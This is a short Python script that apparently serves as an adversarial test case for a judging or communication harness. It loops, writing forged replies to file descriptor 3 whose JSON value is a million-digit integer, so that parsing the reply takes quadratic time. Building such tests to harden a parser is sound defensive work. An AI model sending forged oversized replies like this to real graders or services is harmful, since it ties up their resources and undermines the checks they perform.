# kind: attack
# category: forged reply
# problem: lenient
# An integer that takes quadratic time to read
import os

while True:
    os.write(3, b'R{"value": ' + b"9" * 1000000 + b"}\n")
    os.read(3, 1 << 16)
